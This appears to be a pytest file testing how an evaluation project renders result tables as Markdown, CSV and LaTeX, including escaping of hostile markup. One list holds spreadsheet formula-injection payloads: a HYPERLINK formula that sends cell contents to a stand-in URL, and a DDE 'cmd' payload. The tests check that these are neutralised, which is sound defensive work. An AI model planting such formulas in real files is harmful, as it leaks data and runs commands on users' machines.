"""A table of results as Markdown, CSV and LaTeX: what is rounded, what is unknown, and texts that are hostile."""

import csv
import io
import math
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from eval.report.result_files import inert, write_rows
from eval.report.table import Cell, Table, printed, printed_cell, to_csv, to_latex, to_markdown, write_tables
from evenhand.errors import DataError

HOSTILE = 'a|b & 50%_x #1 $y$ {z} ~^ \\n <b> "q", `c` *d* [e]\nsecond line\r\n'
texts = st.text(st.one_of(st.sampled_from('|&%_#${}~^\\<>"`*[],;\r\n -†Δ'), st.characters(codec="utf-8")), max_size=12)
cells = st.one_of(st.none(), st.integers(-(10**9), 10**9), st.floats(allow_nan=False, allow_infinity=False), texts)


def made(**changes: Any) -> Table:
    """A small table."""
    fields: dict[str, Any] = {
        "name": "made",
        "title": "Scores",
        "columns": ("model", "DDS", "p"),
        "rows": (("bench_avg", -8.84159, 0.00002), ("aio", None, 0.5)),
        "formats": ("", "+.1f", "p"),
    }
    return Table(**fields | changes)


def test_a_small_table_in_markdown() -> None:
    assert to_markdown(made(note="DDS > 0 is deference.")) == (
        "**Scores**\n\n"
        "| model      |  DDS |       p |\n"
        "| ---------- | ---: | ------: |\n"
        "| bench\\_avg | -8.8 | \\<.0001 |\n"
        "| aio        |    – |   .5000 |\n\n"
        "DDS \\> 0 is deference.\n"
    )


def test_a_small_table_in_csv_keeps_full_precision_and_leaves_the_unknown_empty() -> None:
    assert to_csv(made()) == "model,DDS,p\nbench_avg,-8.84159,2e-05\naio,,0.5\n"


def test_what_is_no_number_is_empty_in_csv_and_a_dash_elsewhere() -> None:
    table = made(rows=(("aio", math.nan, None),))
    assert to_csv(table).endswith("\naio,,\n")
    assert printed(table) == [["aio", "–", "–"]]


def test_a_small_table_in_latex() -> None:
    assert to_latex(made(note="5% & more")) == "\n".join(
        [
            r"\begin{table}",
            r"\centering",
            r"\caption{Scores}",
            r"\label{tab:made}",
            r"\begin{tabular}{lrr}",
            r"\toprule",
            r"model & DDS & p \\",
            r"\midrule",
            r"bench\_avg & $-$8.8 & \textless{}.0001 \\",
            r"aio & -- & .5000 \\",
            r"\bottomrule",
            r"\end{tabular}",
            r"\par\smallskip{\footnotesize 5\% \& more\par}",
            r"\end{table}",
            "",
        ]
    )


@pytest.mark.parametrize(
    ("cell", "form", "text"),
    [
        (None, "+.1f", "–"),
        (math.nan, ".1f", "–"),
        (8.26, "", "8.3"),
        (8, "", "8"),
        (3244, "d", "3244"),
        (8.26, "+.1f", "+8.3"),
        (-0.04, "+.1f", "0.0"),
        (0.04, "+.1f", "0.0"),
        (-0.04, "", "0.0"),
        (-10.0, "", "-10.0"),
        (0.1234, ".1%", "12.3%"),
        (0.0499, "p", ".0499"),
        (0.00009, "p", "<.0001"),
        (1.0, "p", "1.0000"),
        (math.inf, "+.1f", "+inf"),
        (True, "", "yes"),
        (False, "", "no"),
        ("none", "+.1f", "none"),
    ],
)
def test_a_cell_is_printed(cell: Cell, form: str, text: str) -> None:
    assert printed_cell(cell, form) == text


def test_without_formats_the_type_of_a_cell_decides() -> None:
    assert printed(made(formats=())) == [["bench_avg", "-8.8", "0.0"], ["aio", "–", "0.5"]]


def test_numbers_stand_to_the_right_and_words_to_the_left() -> None:
    rule = to_markdown(made(columns=("a", "b", "c"), rows=((1, "x", None),), formats=())).splitlines()[3]
    assert rule == "| --: | --- | --- |"


def test_hostile_text_stays_one_cell_in_every_format() -> None:
    table = made(rows=((HOSTILE, 1.0, 1.0),), title=HOSTILE, note=HOSTILE)
    assert next(csv.reader(io.StringIO(to_csv(table).partition("\n")[2], newline="")))[0] == HOSTILE
    markdown_line = to_markdown(table).splitlines()[4]
    assert len(re.split(r"(?<!\\)\|", markdown_line)) == 5
    assert r"\<b\>" in markdown_line
    assert r"\`c\` \*d\* \[e\] second line" in markdown_line
    latex_line = next(line for line in to_latex(table).splitlines() if line.startswith("a"))
    assert latex_line.startswith(
        r"a\textbar{}b \& 50\%\_x \#1 \$y\$ \{z\} \textasciitilde{}\textasciicircum{} \textbackslash{}n"
    )


def test_a_bracket_at_the_start_of_a_latex_line_is_no_argument_of_the_line_break_before_it() -> None:
    assert "\n{}[1.0, 2.0] & " in to_latex(made(rows=(("[1.0, 2.0]", 1.0, 1.0), ("*", 1.0, 1.0))))


FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_in_a_csv_file_is_a_formula(text: str, tmp_path: Path) -> None:
    table = made(rows=((text, 1.0, 1.0),))
    _, scores = write_rows(tmp_path, "scores", [{"model": text, "datasets": (text, "b"), "dds_pp": -1.5}])
    for line in to_csv(table).partition("\n")[2], scores.read_bytes().decode().partition("\n")[2]:
        assert next(csv.reader(io.StringIO(line, newline="")))[0] == f"'{text}"
    assert scores.read_text().rstrip().endswith(",-1.5")


@pytest.mark.parametrize("text", ["+1.2", "-3.0 [-5.1, 2.0]", "+0.4 ± 0.1", "-12%", "a=1", "–"])
def test_a_number_as_we_print_it_stays_as_it_is_in_a_csv_file(text: str) -> None:
    assert inert(text) == text


@given(st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4))
@example([("\r", None, "a\rb")])
def test_any_table_can_be_read_back_from_its_csv(rows: list[tuple[Cell, Cell, Cell]]) -> None:
    table = made(rows=tuple(rows), formats=())
    lines = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert lines[0] == list(table.columns)
    for line, row in zip(lines[1:], rows, strict=True):
        assert line == ["" if cell is None else str(inert(cell)) for cell in row]


@given(st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4), texts)
def test_any_table_has_its_lines_and_cells_in_markdown_and_latex(rows: list[tuple[Cell, ...]], title: str) -> None:
    table = made(rows=tuple(rows), formats=(), title=title, note=title)
    markdown_lines = [line for line in to_markdown(table).split("\n") if line.startswith("| ")]
    assert len(markdown_lines) == len(rows) + 2
    assert all(len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) == 4 for line in markdown_lines)
    body = to_latex(table).partition("\\midrule\n")[2].partition("\\bottomrule")[0].splitlines()
    assert len(body) == len(rows)
    assert all(len(re.findall(r"(?<!\\)&", line)) == 2 and line.endswith(r" \\") for line in body)


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(DataError, match="table made: has 3 columns"):
        made(rows=(("aio", 1.0),))
    with pytest.raises(DataError, match="rows or formats of other lengths"):
        made(formats=("", "p"))


@pytest.mark.parametrize("name", ["", "../made", "a b", "ä"])
def test_a_name_that_is_no_file_stem_is_refused(name: str) -> None:
    with pytest.raises(DataError, match="its name becomes a file's"):
        made(name=name)


def test_tables_are_written_in_three_formats_each(tmp_path: Path) -> None:
    out = tmp_path / "new" / "tables"
    paths = write_tables(out, [made(), made(name="other")])
    assert sorted(path.name for path in out.iterdir()) == sorted(path.name for path in paths)
    assert sorted(path.name for path in paths) == [f"{n}.{s}" for n in ("made", "other") for s in ("csv", "md", "tex")]
    assert (out / "made.md").read_text(encoding="utf-8") == to_markdown(made())


def test_two_tables_of_one_name_are_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="two tables are called 'made'"):
        write_tables(tmp_path / "out", [made(), made()])
    assert not (tmp_path / "out").exists()
